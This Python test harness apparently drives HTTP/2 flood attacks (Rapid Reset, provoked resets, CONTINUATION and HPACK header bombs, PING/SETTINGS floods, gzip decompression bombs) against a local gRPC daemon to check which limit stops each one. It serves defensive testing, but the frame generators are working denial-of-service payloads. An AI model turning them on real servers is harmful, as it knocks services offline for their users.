"""What hostile clients do once they are connected: an attack for each row of the table of floods,
and by which limit it is stopped. Run as a program it makes those that it is told to, again and again,
and calls that do no harm in between, to compare."""

import os
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from functools import cache
from itertools import count, cycle
from pathlib import Path

from beside import frame
from connection import GET_VPS, Connection, message
from hostile import PREFACE, Calls, Hostile, give_way
from hyperframe.frame import SettingsFrame

# Error codes, RFC 9113, 7.
PROTOCOL_ERROR = 0x1
STREAM_CLOSED = 0x5
ENHANCE_YOUR_CALM = 0xB

END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
ACK = 0x1
# A literal field without indexing, "X: y" in capital letters and "x: y".
CAPITAL = b"\x00\x01X\x01y"
SMALL = b"\x00\x01x\x01y"
CHUNK_STREAMS = 500
# Streams that may be open at once, and not all of them.
FEW_STREAMS = 90
# Made without a break.
GIVING_WAY_STREAMS = 50
BOMB_BYTES = 64 << 20


@dataclass(frozen=True)
class Attack:
    """`chunks` are sent one after the other, until `reason` stops them, as the metrics name it;
    `code` is its GOAWAY's. With `resets`, each chunk waits for so many of the one before, since
    what goes too fast is stopped as streams that are too many."""

    chunks: Callable
    reason: str
    code: int = ENHANCE_YOUR_CALM
    reads: bool = True
    resets: int = 0

    def begin(self, port, hostile, seconds):
        """Attacks on a connection; tells how it was stopped."""
        return hostile.flood(self.chunks(port), seconds, self.resets)


def streams(port, make, each=CHUNK_STREAMS, **changes):
    """Chunks of what `make` sends for each stream: from its number and its id."""
    calls = Calls(port, **changes)
    for first in count(0, each):
        chunk = []
        for number in range(first, first + each):
            if number % GIVING_WAY_STREAMS == 0:
                give_way()
            chunk.append(make(calls, number, 2 * number + 1))
        yield b"".join(chunk)


def again(*frames, times=1000):
    """The same frames in each chunk."""
    chunk = b"".join(frames) * times
    while True:
        yield chunk


def rapid_reset(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(0, END_STREAM, stream, GET_VPS)
        + frame(3, 0, stream, b"\0\0\0\x08")))


def reset_of_what_is_not_whole(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(3, 0, stream, b"\0\0\0\x08")))


def malformed(port):
    return streams(port, lambda calls, number, stream: calls.headers(number, more=CAPITAL),
                   each=FEW_STREAMS)


def windows_beyond_their_bound(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(8, 0, stream, b"\x7f\xff\xff\xff")), each=FEW_STREAMS)


def lengths_that_do_not_hold(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(0, END_STREAM, stream, GET_VPS)),
        each=FEW_STREAMS, extra=[("content-length", "1")])


def trailers_that_do_not_end(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(1, END_HEADERS, stream, SMALL)), each=FEW_STREAMS)


def windows_of_zero(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(8, 0, stream, bytes(4))))


def data_after_the_end(port):
    return streams(port, lambda calls, number, stream: (
        calls.headers(number) + frame(0, END_STREAM, stream, GET_VPS) + frame(0, 0, stream, b"x")))


def continuations(size):
    def chunks(port):
        yield Calls(port).headers(0, flags=0)
        yield from again(frame(9, 0, 1, (SMALL * (size // len(SMALL) + 1))[:size]), times=20)

    return chunks


def header_bombs(port):
    # A field of 3,800 bytes goes into the dynamic table; each further byte repeats it.
    length = b"\x7f" + bytes([(3800 - 127) & 0x7F | 0x80, (3800 - 127) >> 7])
    bomb = b"\x40\x01x" + length + b"y" * 3800
    yield Calls(port).headers(0, more=(bomb + b"\xbe" * 12_000)[:16_000])


def trailer_bombs(port):
    length = b"\x7f" + bytes([(3800 - 127) & 0x7F | 0x80, (3800 - 127) >> 7])
    bomb = b"\x40\x01x" + length + b"y" * 3800
    yield Calls(port).headers(0)
    yield frame(1, END_HEADERS | END_STREAM, 1, bomb + b"\xbe" * 12_000)


def many_fields(port):
    yield Calls(port).headers(0, more=SMALL * 1000)


def empty_data(port):
    yield Calls(port).headers(0)
    yield from again(frame(0, 0, 1, b""))


def padding_without_data(port):
    yield Calls(port).headers(0)
    yield from again(frame(0, PADDED, 1, b"\xff" + bytes(255)))


def tiny_data(port):
    yield Calls(port).headers(0) + frame(0, 0, 1, message(b"", length=4_000_000))
    yield from again(frame(0, 0, 1, b"x"))


def priority_games(port):
    # A ring of streams that depend on each other, whether they are open or not.
    ring = [frame(2, 0, stream, struct.pack(">IB", 1 << 31 | (stream + 2) % 200 | 1, 255))
            for stream in range(1, 200, 2)]
    yield Calls(port).headers(0)
    yield from again(*ring, times=10)


def streams_beyond_the_bound(port):
    return streams(port, lambda calls, number, stream: calls.headers(number))


def answered_before_they_end(port):
    return streams(port, lambda calls, number, stream: calls.headers(number),
                   each=FEW_STREAMS, content_type="text/plain")


BIG_SETTINGS = SettingsFrame(
    0, {identifier: 65_536 for identifier in range(0xF000, 0xF000 + 100)}).serialize()

ATTACKS = {
    # CVE-2023-44487.
    "rapid reset": Attack(rapid_reset, "stream_reset_flood"),
    "rapid reset of calls not whole": Attack(reset_of_what_is_not_whole, "stream_reset_flood"),
    "rapid reset without reading": Attack(rapid_reset, "stream_reset_flood", reads=False),
    # CVE-2025-8671.
    "resets provoked by fields": Attack(
        malformed, "provoked_reset_flood", resets=FEW_STREAMS),
    "resets provoked by windows": Attack(
        windows_beyond_their_bound, "provoked_reset_flood", resets=FEW_STREAMS),
    "resets provoked by lengths": Attack(
        lengths_that_do_not_hold, "provoked_reset_flood", resets=FEW_STREAMS),
    "resets provoked by trailers": Attack(
        trailers_that_do_not_end, "provoked_reset_flood", resets=FEW_STREAMS),
    "resets provoked by windows of 0": Attack(
        windows_of_zero, "protocol_error", PROTOCOL_ERROR),
    "resets provoked by data after the end": Attack(
        data_after_the_end, "protocol_error", STREAM_CLOSED),
    "CONTINUATION of nothing": Attack(continuations(0), "too_many_continuations"),
    "CONTINUATION of a byte": Attack(continuations(1), "too_many_continuations"),
    "CONTINUATION in full": Attack(continuations(16_380), "header_bomb"),
    "header bombs": Attack(header_bombs, "header_bomb"),
    "trailer bombs": Attack(trailer_bombs, "header_bomb"),
    "header fields": Attack(many_fields, "header_bomb"),
    "PING": Attack(lambda port: again(frame(6, 0, 0, bytes(8))), "too_many_pings"),
    "PING without reading": Attack(
        lambda port: again(frame(6, 0, 0, bytes(8))), "too_many_pings", reads=False),
    "PING acknowledgements": Attack(
        lambda port: again(frame(6, ACK, 0, bytes(8))), "ping_flood"),
    "SETTINGS": Attack(lambda port: again(frame(4, 0, 0, b"")), "settings_flood"),
    "SETTINGS of many entries": Attack(
        lambda port: again(BIG_SETTINGS, times=1), "too_many_settings_entries"),
    "empty DATA": Attack(empty_data, "empty_data_flood"),
    "padding without DATA": Attack(padding_without_data, "empty_data_flood"),
    "tiny DATA": Attack(tiny_data, "small_data_flood"),
    "priority games": Attack(priority_games, "control_frame_flood"),
    "WINDOW_UPDATE": Attack(
        lambda port: again(frame(8, 0, 0, b"\0\0\0\x01")), "control_frame_flood"),
    "unknown frames": Attack(
        lambda port: again(frame(0xFA, 0, 0, b"")), "control_frame_flood"),
    "too many streams": Attack(streams_beyond_the_bound, "refused_stream_flood"),
    "calls answered before they end": Attack(
        answered_before_they_end, "early_response_flood", resets=FEW_STREAMS),
}


# As loads on the daemon, for some time: beside each of them a good client is to be served. Those
# that are not in the table above are no matter of one connection's frames.

def again_and_again(attack):
    """On a new connection each time that one is ended."""
    def load(port, until):
        while (left := until - time.monotonic()) > 0:
            with Hostile(port, attack.reads) as hostile:
                attack.begin(port, hostile, left)

    return load


def connections_that_come_and_go(port, until):
    while time.monotonic() < until:
        with Hostile(port):
            pass


def handshakes_never_finished(port, until):
    while time.monotonic() < until:
        clients = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
        for client in clients:
            client.sendall(PREFACE[:10])
        time.sleep(max(0, min(0.5, until - time.monotonic())))
        for client in clients:
            client.close()


def answers_without_a_window(port, until):
    calls = Calls(port)
    while time.monotonic() < until:
        with ExitStack() as stack:
            for _ in range(20):
                client = stack.enter_context(Hostile(port))
                client.socket.setblocking(True)
                client.socket.sendall(SettingsFrame(0, {4: 0}).serialize() + b"".join(
                    calls.headers(number) + frame(0, END_STREAM, 2 * number + 1, GET_VPS)
                    for number in range(100)))
            time.sleep(max(0, min(0.5, until - time.monotonic())))


def answers_that_nobody_reads(port, until):
    calls = Calls(port)
    while time.monotonic() < until:
        with Hostile(port, reads=False) as client:
            client.flood(streams(port, lambda _, number, stream: (
                calls.headers(number) + frame(0, END_STREAM, stream, GET_VPS))), 0.5)


@cache
def bomb(size):
    """A gRPC message of so many zeros, in a thousandth of the bytes."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    pieces = [squeeze.compress(zeros) for _ in range(size >> 20)]
    return message(b"".join(pieces) + squeeze.flush(), compressed=1)


def decompression_bombs(port, until):
    body = bomb(BOMB_BYTES)
    while time.monotonic() < until:
        with Connection(port) as connection:
            opened = [connection.start(grpc_encoding="gzip") for _ in range(10)]
            for stream in opened:
                connection.send_body(stream, body)
            for stream in opened:
                connection.receive(stream)


LOADS = {name: again_and_again(attack) for name, attack in ATTACKS.items()} | {
    "connections that come and go": connections_that_come_and_go,
    "handshakes never finished": handshakes_never_finished,
    "answers without a window": answers_without_a_window,
    "answers that nobody reads": answers_that_nobody_reads,
    "decompression bombs": decompression_bombs,
}


class Processors:
    """What this process and the daemon ask of the processors, from now on: the time that they run,
    and the time that they wait for their turn to. Where there is less than they ask for, who takes
    no more than it was given last time would never have to wait."""

    def __init__(self, daemon):
        self.folders = [Path(f"/proc/{process}/task") for process in (os.getpid(), daemon)]
        self.began, self.asked = time.monotonic(), self.seconds()

    def seconds(self):
        files = (file for folder in self.folders for file in folder.glob("*/schedstat"))
        return sum(
            int(part) for file in files for part in file.read_bytes().split()[:2]) / 1e9

    def share(self):
        return (self.seconds() - self.asked) / (time.monotonic() - self.began)

    def seconds_ahead(self, share):
        """How long to do nothing for it to be no more than `share`."""
        return (self.seconds() - self.asked) / share - (time.monotonic() - self.began)


def harmless_calls(port, until, processors, share):
    """Calls that are answered and read, as fast as that goes with this share of the processors."""
    calls = Calls(port)
    with ExitStack() as stack:
        clients = []
        # One for each of the daemon's loops, which have work while this process reads.
        for _ in range(2):
            client = stack.enter_context(Hostile(port))
            client.socket.sendall(frame(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
            clients.append((client, streams(port, lambda _, number, stream: (
                calls.headers(number) + frame(0, END_STREAM, stream, GET_VPS)), each=FEW_STREAMS)))
        turns = cycle(clients)
        while (left := until - time.monotonic()) > 0:
            if (ahead := processors.seconds_ahead(share)) > 0:
                time.sleep(min(ahead, left))
            else:
                client, chunks = next(turns)
                client.exchange(next(chunks), FEW_STREAMS)


def main(port, daemon):
    """Takes lines of a load's name, or nothing for calls that do no harm, the seconds that it is
    to last, and the share of the processors that those calls and the daemon may ask for; answers
    with the share that was asked for."""
    # A client elsewhere would have processors of its own.
    os.nice(10)
    bomb(BOMB_BYTES)
    for line in sys.stdin:
        name, seconds, share = line.rstrip("\n").split("\t")
        print("begun", flush=True)
        processors, until = Processors(daemon), time.monotonic() + float(seconds)
        if name:
            LOADS[name](port, until)
        else:
            harmless_calls(port, until, processors, float(share))
        print(processors.share(), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
